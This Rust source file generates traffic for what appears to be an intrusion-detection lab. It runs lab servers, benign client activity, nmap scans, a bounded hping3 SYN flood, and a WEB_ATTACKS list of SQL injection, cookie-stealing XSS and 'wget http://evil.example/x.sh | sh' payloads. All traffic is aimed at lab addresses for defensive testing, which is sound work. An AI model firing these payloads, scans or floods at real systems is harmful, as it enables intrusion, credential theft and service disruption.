//! Real traffic for the lab: servers on the LAN host, benign use from the client, attacks from the
//! attacker. Every generator is bounded in packets or time, and targets only lab addresses.

use std::process::Output;
use std::time::Duration;

use anyhow::{Context, Result};

use crate::lab::{Lab, SERVER_V4, SERVER_V6};
use crate::netns::Netns;
use crate::process::Managed;

/// TCP port of the lab's web server.
pub const HTTP_PORT: u16 = 80;
/// UDP port of the lab's DNS-like echo service.
pub const DNS_PORT: u16 = 53;
/// TCP port of the lab's SSH-like banner service.
pub const SSH_PORT: u16 = 22;

/// The LAN server's services, stopped on drop.
#[derive(Debug)]
pub struct Servers {
    _procs: Vec<Managed>,
}

/// Starts a web server (dual-stack), a UDP echo on the DNS port and an SSH-like banner on the server host,
/// and waits until the web server answers.
pub fn start_servers(lab: &Lab) -> Result<Servers> {
    let srv = &lab.server;
    let www = lab.path("www");
    std::fs::create_dir_all(www.join("api"))?;
    std::fs::write(www.join("index.html"), "<html><body>lab</body></html>\n")?;
    std::fs::write(www.join("api/status.json"), "{\"ok\": true}\n")?;
    let mut http = srv.command("python3");
    http.args(["-m", "http.server", "80", "--bind", "::", "--directory"])
        .arg(&www);
    let mut dns = srv.command("socat");
    dns.args([
        "-T1",
        &format!("UDP6-RECVFROM:{DNS_PORT},fork,ipv6only=0"),
        "SYSTEM:cat",
    ]);
    let mut ssh = srv.command("socat");
    ssh.args([
        &format!("TCP6-LISTEN:{SSH_PORT},fork,reuseaddr,ipv6only=0"),
        "SYSTEM:echo SSH-2.0-OpenSSH_9.2p1 Debian-2; sleep 1",
    ]);
    let procs = vec![
        Managed::spawn("http", http, lab.path("http.log"))?,
        Managed::spawn("dns", dns, lab.path("dns.log"))?,
        Managed::spawn("ssh", ssh, lab.path("ssh.log"))?,
    ];
    for _ in 0..100 {
        if srv
            .exec("curl", &["-sf", "-o", "/dev/null", "http://127.0.0.1/"])
            .is_ok()
        {
            return Ok(Servers { _procs: procs });
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    anyhow::bail!("the lab web server did not come up: {}", procs[0].log())
}

/// Outcome of one HTTP request.
pub fn http_get(host: &Netns, url: &str, timeout: Duration) -> Result<Output> {
    host.command("curl")
        .args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time"])
        .arg(format!("{:.1}", timeout.as_secs_f64()))
        .arg(url)
        .output()
        .context("run curl")
}

/// True if `host` gets an HTTP answer from the server within `timeout`.
pub fn can_reach_web(host: &Netns, v6: bool, timeout: Duration) -> bool {
    let url = if v6 {
        format!("http://[{SERVER_V6}]:{HTTP_PORT}/")
    } else {
        format!("http://{SERVER_V4}:{HTTP_PORT}/")
    };
    http_get(host, &url, timeout)
        .map(|o| o.stdout.starts_with(b"200"))
        .unwrap_or(false)
}

/// Benign use from `host`: page and API fetches over IPv4 and IPv6, a short wrk load, DNS-like queries and
/// an SSH banner fetch. Returns the number of HTTP requests that failed.
pub fn benign_round(host: &Netns) -> Result<usize> {
    let mut failed = 0;
    for url in [
        format!("http://{SERVER_V4}/"),
        format!("http://{SERVER_V4}/api/status.json"),
        format!("http://[{SERVER_V6}]/index.html"),
        format!("http://{SERVER_V4}/?q=it%27s+a+%3Ctest%3E"),
    ] {
        let out = http_get(host, &url, Duration::from_secs(3))?;
        if !(out.stdout.starts_with(b"200")) {
            failed += 1;
        }
    }
    host.command("wrk")
        .args(["-t1", "-c2", "-d2s", &format!("http://{SERVER_V4}/")])
        .output()
        .context("run wrk")?;
    for name in ["example", "updates", "time"] {
        let query = format!("query {name}.lan A");
        socat_session(
            host,
            &format!("UDP:{SERVER_V4}:{DNS_PORT}"),
            &[&query],
            Duration::ZERO,
        )?;
    }
    socat_session(
        host,
        &format!("TCP:{SERVER_V4}:{SSH_PORT},connect-timeout=2"),
        &[],
        Duration::ZERO,
    )?;
    Ok(failed)
}

/// An nmap TCP SYN scan of the server's first `ports` ports.
pub fn nmap_syn_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
    let range = format!("1-{ports}");
    let mut args = vec![
        "-sS",
        "-Pn",
        "-n",
        "-T4",
        "--max-retries",
        "1",
        "-p",
        &range,
        target,
    ];
    if target.contains(':') {
        args.insert(0, "-6");
    }
    host.command("nmap")
        .args(&args)
        .output()
        .context("run nmap")
}

/// An nmap TCP connect scan of the server's first `ports` ports.
pub fn nmap_connect_scan(host: &Netns, target: &str, ports: u16) -> Result<Output> {
    let range = format!("1-{ports}");
    host.command("nmap")
        .args([
            "-sT",
            "-Pn",
            "-n",
            "-T4",
            "--max-retries",
            "1",
            "-p",
            &range,
            target,
        ])
        .output()
        .context("run nmap")
}

/// An hping3 SYN flood of `count` packets at the web port.
pub fn hping3_syn_flood(host: &Netns, target: &str, count: u32) -> Result<Output> {
    host.command("hping3")
        .args(["-q", "-S", "-p", "80", "-i", "u200", "-c"])
        .arg(count.to_string())
        .arg(target)
        .output()
        .context("run hping3")
}

/// HTTP requests carrying attack payloads: SQL injection, XSS, path traversal and command injection.
pub const WEB_ATTACKS: &[&str] = &[
    "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/login?user=admin%27%20OR%20%271%27=%271%27--&pass=x",
    "/search?q=%3Cscript%3Edocument.location=%27http://evil.example/c?%27%2Bdocument.cookie%3C/script%3E",
    "/comment?text=%3Cimg%20src=x%20onerror=alert(document.domain)%3E",
    "/download?file=../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/cgi-bin/run?cmd=%7Cwget%20http://evil.example/x.sh%20-O-%7Csh",
];

/// Sends every [`WEB_ATTACKS`] request from `host`; returns how many got any HTTP answer.
pub fn web_attacks(host: &Netns, target: &str) -> Result<usize> {
    let mut answered = 0;
    for path in WEB_ATTACKS {
        let out = http_get(
            host,
            &format!("http://{target}{path}"),
            Duration::from_secs(2),
        )?;
        if out
            .stdout
            .first()
            .is_some_and(|c| c.is_ascii_digit() && *c != b'0')
        {
            answered += 1;
        }
    }
    Ok(answered)
}

/// Extra addresses of the benign client namespace, so the baseline has many sources with different
/// habits (10.203.1.21 … and fd00:203:1::21 …).
pub fn add_client_aliases(lab: &Lab, count: u8) -> Result<Vec<String>> {
    let mut addrs = Vec::new();
    for i in 0..count {
        let v4 = format!("10.203.1.{}", 21 + i);
        let v6 = format!("fd00:203:1::{:x}", 0x21 + i);
        crate::netns::addr(&lab.client, "eth0", &format!("{v4}/24"))?;
        crate::netns::addr(&lab.client, "eth0", &format!("{v6}/64"))?;
        addrs.push(v4);
        addrs.push(v6);
    }
    Ok(addrs)
}

/// A bulk file on the web server, for download traffic.
pub fn add_bulk_file(lab: &Lab, megabytes: usize) -> Result<()> {
    let data: Vec<u8> = (0..megabytes * 1024 * 1024)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(lab.path("www").join("bulk.bin"), data)?;
    Ok(())
}

/// One activity of a benign user, from source address `src`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Activity {
    /// A few pages and API calls with think time.
    Browse,
    /// Polling a JSON API.
    Poll,
    /// Downloading a large file.
    Bulk,
    /// DNS-like UDP queries.
    Dns,
    /// An interactive session: small lines with pauses.
    Interactive,
}

impl Activity {
    /// Every activity.
    pub const ALL: [Activity; 5] = [
        Self::Browse,
        Self::Poll,
        Self::Bulk,
        Self::Dns,
        Self::Interactive,
    ];
}

/// Runs one activity from `src` (an address of `host`) against the server.
pub fn run_activity(host: &Netns, src: &str, activity: Activity) -> Result<()> {
    let v6 = src.contains(':');
    let server = if v6 {
        format!("[{SERVER_V6}]")
    } else {
        SERVER_V4.to_owned()
    };
    let curl = |path: &str, extra: &[&str]| -> Result<()> {
        host.command("curl")
            .args([
                "-s",
                "-o",
                "/dev/null",
                "--max-time",
                "10",
                "--interface",
                src,
            ])
            .args(extra)
            .arg(format!("http://{server}{path}"))
            .output()
            .context("run curl")?;
        Ok(())
    };
    match activity {
        Activity::Browse => {
            for path in [
                "/",
                "/index.html",
                "/api/status.json",
                "/?q=it%27s+%22fine%22+%3C3",
            ] {
                curl(
                    path,
                    &["-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"],
                )?;
                std::thread::sleep(Duration::from_millis(150));
            }
        }
        Activity::Poll => {
            for _ in 0..5 {
                curl("/api/status.json", &["-H", "Accept: application/json"])?;
                std::thread::sleep(Duration::from_millis(200));
            }
        }
        Activity::Bulk => curl("/bulk.bin", &["--limit-rate", "20M"])?,
        Activity::Dns => {
            for name in ["example", "updates", "time", "mail"] {
                let bind = if v6 {
                    format!("UDP6:{server}:{DNS_PORT},bind=[{src}]")
                } else {
                    format!("UDP4:{server}:{DNS_PORT},bind={src}")
                };
                let query = format!("query {name}.lan A");
                socat_session(host, &bind, &[&query], Duration::ZERO)?;
            }
        }
        Activity::Interactive => {
            let target = if v6 {
                format!("TCP6:{server}:{SSH_PORT},bind=[{src}],connect-timeout=2")
            } else {
                format!("TCP4:{server}:{SSH_PORT},bind={src},connect-timeout=2")
            };
            socat_session(
                host,
                &target,
                &["ls -la\n", "uptime\n", "exit\n"],
                Duration::from_millis(120),
            )?;
        }
    }
    Ok(())
}

/// Connects socat to `address` from `host`, writes `lines` with `gap` between them, and waits for the
/// session to end (socat's one-second idle timeout).
fn socat_session(host: &Netns, address: &str, lines: &[&str], gap: Duration) -> Result<()> {
    use std::io::Write;
    let mut child = host
        .command("socat")
        .args(["-T1", "-", address])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .context("run socat")?;
    if let Some(mut stdin) = child.stdin.take() {
        for line in lines {
            // The peer may close first (a banner service); what was sent is enough.
            let _ = stdin.write_all(line.as_bytes());
            std::thread::sleep(gap);
        }
    }
    child.wait().context("wait for socat")?;
    Ok(())
}
